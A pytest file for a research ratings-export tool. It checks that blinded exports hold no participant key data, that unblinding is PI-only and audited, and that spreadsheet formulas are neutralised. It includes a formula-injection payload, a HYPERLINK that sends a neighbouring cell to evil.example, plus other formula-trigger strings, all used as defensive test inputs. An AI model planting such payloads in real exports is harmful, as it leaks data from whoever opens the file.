"""Exports: blinded by default (no key column, no key value), SPSS labels, PI-only audited unblinding."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pandas as pd
import pyreadstat
import pytest
from sqlalchemy import select

from coding_app.errors import NotAllowed
from coding_app.export import FORMATS, default_name, export_ratings
from coding_app.imports.ratings import import_ratings
from coding_app.reliability_report import tables_csv_zip, tables_xlsx
from coding_app.store.models import Exclusion, Recording
from coding_app.unblinding import KEY_COLUMNS
from tests.coding_app.helpers import add_account, add_recordings, audit_rows, write_csv

# A key that would be recognised anywhere it turned up.
KEY = [
    dict(
        recording_id="REC-LEAK-101",
        participant_id="PID-LEAK-A",
        site="Northfield",
        arm="VIPP-PMH",
        timepoint="baseline",
        kind="video",
    ),
    dict(
        recording_id="REC-LEAK-102",
        participant_id="PID-LEAK-B",
        site="Southmoor",
        arm="usual care",
        timepoint="month 5",
        kind="video",
    ),
    dict(
        recording_id="REC-LEAK-201",
        participant_id="PID-LEAK-A",
        site="Northfield",
        arm="VIPP-PMH",
        kind="audio",
        session="4",
        clinician="Dr Leakwell",
    ),
]
SCORES = {  # (recording, coder, scale) -> score
    ("REC-LEAK-101", "rater.one", "ea_sensitivity"): "6",
    ("REC-LEAK-101", "rater.one", "ea_non_intrusiveness"): "4.5",
    ("REC-LEAK-101", "rater.two", "ea_sensitivity"): "5.5",
    ("REC-LEAK-101", "rater.two", "ea_non_intrusiveness"): "5",
    ("REC-LEAK-102", "rater.one", "ea_sensitivity"): "3",
    ("REC-LEAK-102", "rater.one", "ea_non_intrusiveness"): "7",
    ("REC-LEAK-201", "fidelity.one", "vipp_adherence"): "4",
}
KEY_VALUES = {v for row in KEY for k, v in row.items() if k not in ("kind", "session")}


@pytest.fixture
def rated(study):
    """Three recordings with a leaky key, seven submitted ratings by three coders, and a PI."""
    study.codes = add_recordings(study.store, KEY)
    study.accounts = {
        name: add_account(study.store, name, role)
        for name, role in (
            ("rater.one", "coder"),
            ("rater.two", "coder"),
            ("fidelity.one", "fidelity"),
            ("pi.one", "pi"),
        )
    }
    rows = [dict(recording_id=r, coder=c, scale=s, score=v) for (r, c, s), v in SCORES.items()]
    import_ratings(
        study.store, write_csv(study.root / "ratings.csv", rows, ("recording_id", "coder", "scale", "score")), "pi.one"
    )
    return study


def read_back(path, fmt: str) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(path, dtype=str, keep_default_na=False)
    if fmt == "xlsx":
        return pd.read_excel(path, dtype=str, keep_default_na=False)
    frame, _ = pyreadstat.read_sav(str(path))
    return frame


def test_the_blinded_export_has_no_key_column_and_no_key_value(rated, subtests):
    """CSV, XLSX, SAV: a row per recording and coder, by opaque code; nothing of participant, site, arm, timepoint,
    clinician."""
    for fmt in FORMATS:
        with subtests.test(fmt):
            path = rated.root / f"out.{fmt}"

            rows = export_ratings(rated.store, path, fmt, None, "pi.one")

            table = read_back(path, fmt)
            assert rows == len(table) == 4  # (101, one), (101, two), (102, one), (201, fidelity)
            assert not set(KEY_COLUMNS) & set(table.columns)
            cells = {str(v) for column in table.columns for v in table[column]} | set(table.columns)
            for cell in cells:
                for value in KEY_VALUES:
                    assert value.casefold() not in cell.casefold(), (cell, value)
            assert set(table["code"]) == set(rated.codes.values())
            scores = table.set_index(["code", "coder"])
            assert float(scores.loc[(rated.codes["REC-LEAK-102"], "rater.one"), "ea_non_intrusiveness"]) == 7
            assert float(scores.loc[(rated.codes["REC-LEAK-201"], "fidelity.one"), "vipp_adherence"]) == 4
            entry = audit_rows(rated.store, "export.ratings")[-1]
            assert entry.new == {"format": fmt, "rows": 4, "unblinded": False, "file": path.name}


def test_the_spss_file_keeps_variable_labels_and_value_labels_of_the_classes(rated):
    """Class columns are coded 0/1 with the codebook's class names; every variable has its label."""
    path = rated.root / "ratings.sav"
    export_ratings(rated.store, path, "sav", None, "pi.one")

    frame, meta = pyreadstat.read_sav(str(path))

    assert meta.variable_value_labels["ea_sensitivity_class"] == {0: "Inconsistent or insensitive", 1: "Sensitive"}
    assert meta.variable_value_labels["ea_non_intrusiveness_class"] == {0: "Intrusive", 1: "Non-intrusive"}
    assert meta.variable_value_labels["vipp_adherence_class"] == {
        0: "Below acceptable fidelity",
        1: "Acceptable fidelity",
    }
    labels = meta.column_names_to_labels
    assert labels["ea_sensitivity"] == "Maternal sensitivity (EA Scales)"
    assert labels["ea_sensitivity_class"] == "Maternal sensitivity (EA Scales): class (threshold 5.5)"
    assert labels["code"] == "Recording (opaque code)"
    assert all(labels[c] for c in frame.columns)
    rows = frame.set_index(["code", "coder"])
    one, two = (
        rows.loc[(rated.codes["REC-LEAK-101"], "rater.one")],
        rows.loc[(rated.codes["REC-LEAK-101"], "rater.two")],
    )
    # 6 and 5.5 are at or above 5.5 (Sensitive = 1); 4.5 and 5 are below it (Intrusive = 0).
    assert (one["ea_sensitivity"], one["ea_sensitivity_class"], one["ea_non_intrusiveness_class"]) == (6, 1, 0)
    assert (two["ea_sensitivity"], two["ea_sensitivity_class"], two["ea_non_intrusiveness_class"]) == (5.5, 1, 0)
    low = rows.loc[(rated.codes["REC-LEAK-102"], "rater.one")]
    assert (low["ea_sensitivity_class"], low["ea_non_intrusiveness_class"]) == (0, 1)
    assert pd.isna(rows.loc[(rated.codes["REC-LEAK-201"], "fidelity.one"), "ea_sensitivity_class"])


def test_an_unblinded_export_without_a_pi_is_refused_and_leaves_no_file(rated, subtests):
    """No account, or a coder's: PermissionError before anything is read from the key or written."""
    path = rated.root / "unblinded.csv"
    for who in (None, "rater.one", "fidelity.one"):
        with subtests.test(who=who):
            account = rated.accounts[who] if who else None
            with pytest.raises(PermissionError) as refused:
                export_ratings(rated.store, path, "csv", account, who or "cli", unblinded=True)
            assert who is None or isinstance(refused.value, NotAllowed)
            assert not path.exists()
            assert (
                audit_rows(rated.store, "unblind.key_table") == [] and audit_rows(rated.store, "export.ratings") == []
            )


def test_a_pi_gets_the_unblinded_export_and_both_the_unblinding_and_the_export_are_audited(rated):
    """Key columns beside each code, each code matched to its own participant; 'unblind.key_table' and
    'export.ratings' logged."""
    path = rated.root / "unblinded.csv"

    export_ratings(rated.store, path, "csv", rated.accounts["pi.one"], "pi.one", unblinded=True)

    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(table.columns[: len(KEY_COLUMNS)]) == list(KEY_COLUMNS)
    by_code = {rated.codes[row["recording_id"]]: row for row in KEY}
    for _, row in table.iterrows():
        key = by_code[row["code"]]
        assert (row["recording_id"], row["participant_id"], row["site"], row["arm"]) == (
            key["recording_id"],
            key["participant_id"],
            key["site"],
            key["arm"],
        )
        assert row["timepoint"] == key.get("timepoint", "") and row["clinician"] == key.get("clinician", "")
    [unblind] = audit_rows(rated.store, "unblind.key_table")
    assert (unblind.actor, unblind.reason) == ("pi.one", "unblinded ratings export")
    [export] = audit_rows(rated.store, "export.ratings")
    assert (export.actor, export.new["unblinded"], export.new["file"]) == ("pi.one", True, "unblinded.csv")


def test_every_rating_is_exported_and_those_that_do_not_count_say_why(rated, subtests):
    """A recording excluded with its ratings (a flag) is marked not counted with the analysis dataset's reason; one
    excluded with its ratings kept (a withdrawal under 'keep') and one not excluded count. SPSS gets value labels."""
    flagged, kept = rated.codes["REC-LEAK-102"], rated.codes["REC-LEAK-201"]
    with rated.store.write() as db:
        ids = dict(db.execute(select(Recording.code, Recording.id)).all())
        db.add(Exclusion(recording_id=ids[flagged], cause="flag", ratings_count=False, reason="blank", by="pi.one"))
        db.add(Exclusion(recording_id=ids[kept], cause="withdrawal", ratings_count=True, reason="", by="pi.one"))
    reason = "excluded from the study (a coder could not code it): its ratings do not count"
    for fmt in FORMATS:
        with subtests.test(fmt):
            path = rated.root / f"out.{fmt}"
            assert export_ratings(rated.store, path, fmt, None, "pi.one") == 4

            table = read_back(path, fmt).set_index(["code", "coder"])[["counted", "not_counted_because"]]
            yes, no = (1, 0) if fmt == "sav" else ("yes", "no")
            assert table.sort_index().to_dict("index") == {
                key: {"counted": counted, "not_counted_because": why}
                for key, counted, why in sorted(
                    [
                        ((rated.codes["REC-LEAK-101"], "rater.one"), yes, ""),
                        ((rated.codes["REC-LEAK-101"], "rater.two"), yes, ""),
                        ((flagged, "rater.one"), no, reason),
                        ((kept, "fidelity.one"), yes, ""),
                    ]
                )
            }
    _, meta = pyreadstat.read_sav(str(rated.root / "out.sav"))
    assert meta.variable_value_labels["counted"] == {0: "no", 1: "yes"}


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("unblinded", [False, True])
def test_default_export_names_say_what_the_file_is_and_nothing_about_anyone(fmt, unblinded):
    """ratings-blinded|unblinded-YYYYMMDD.FORMAT: today's date, nothing else."""
    name = default_name(fmt, unblinded)
    assert name == f"ratings-{'unblinded' if unblinded else 'blinded'}-{date.today():%Y%m%d}.{fmt}"


# A consensus reason, a note or a manifest cell that Excel would run: it sends the cell next to it away.
FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"details")'
RUNNABLE = (FORMULA, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR")


def xlsx_cells(data) -> list:
    """Every cell of every sheet of an XLSX file (path or bytes)."""
    book = openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_text_a_spreadsheet_would_run_is_written_as_text_in_the_csv_and_xlsx_exports(study):
    """Key values such as a clinician '=HYPERLINK(...)': no formula in the XLSX, a leading quote in both; scores
    stay numbers."""
    codes = add_recordings(
        study.store,
        [
            dict(recording_id=f"REC-{i}", participant_id=text, site=text, kind="audio", session="1", clinician=text)
            for i, text in enumerate(RUNNABLE)
        ],
    )
    pi = add_account(study.store, "pi.one", "pi")
    add_account(study.store, "fidelity.one", "fidelity")
    rows = [dict(recording_id=code, coder="fidelity.one", scale="vipp_adherence", score="4") for code in codes.values()]
    import_ratings(
        study.store, write_csv(study.root / "ratings.csv", rows, ("recording_id", "coder", "scale", "score")), "pi.one"
    )

    export_ratings(study.store, study.root / "out.xlsx", "xlsx", pi, "pi.one", unblinded=True)
    export_ratings(study.store, study.root / "out.csv", "csv", pi, "pi.one", unblinded=True)

    cells = xlsx_cells(study.root / "out.xlsx")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    column = {c.value: c.column_letter for c in cells if c.row == 1}
    clinicians = [c.value for c in cells if c.column_letter == column["clinician"] and c.row > 1]
    # (XML reads a carriage return back as a newline.)
    assert sorted(v.replace("\n", "\r") for v in clinicians) == sorted(f"'{t}" for t in RUNNABLE)
    assert {c.data_type for c in cells if c.column_letter == column["vipp_adherence"] and c.row > 1} == {"n"}
    with (study.root / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        table = list(csv.DictReader(file))
    assert sorted(row["clinician"] for row in table) == sorted(f"'{t}" for t in RUNNABLE)
    assert {float(row["vipp_adherence"]) for row in table} == {4}


def test_the_reliability_tables_write_a_consensus_reason_and_a_header_as_text_and_a_negative_kappa_as_a_number():
    tables = {
        "pairs": pd.DataFrame({"scale": ["ea_sensitivity"], "kappa_linear": [-0.25]}),
        "consensus": pd.DataFrame({"code": ["K7Q2M9XA"], "reason": [FORMULA], "@header": [1]}),
    }

    cells = {(c.parent.title, c.coordinate): c for c in xlsx_cells(tables_xlsx(tables))}
    with zipfile.ZipFile(io.BytesIO(tables_csv_zip(tables))) as archive:
        consensus = list(csv.reader(io.StringIO(archive.read("consensus.csv").decode())))
        pairs = list(csv.reader(io.StringIO(archive.read("pairs.csv").decode())))

    assert [key for key, c in cells.items() if c.data_type == "f"] == []
    assert cells["consensus", "B2"].value == f"'{FORMULA}" and consensus[1][1] == f"'{FORMULA}"
    assert cells["consensus", "C1"].value == "'@header" and consensus[0][2] == "'@header"
    assert (cells["pairs", "B2"].data_type, cells["pairs", "B2"].value) == ("n", -0.25) and pairs[1][1] == "-0.25"
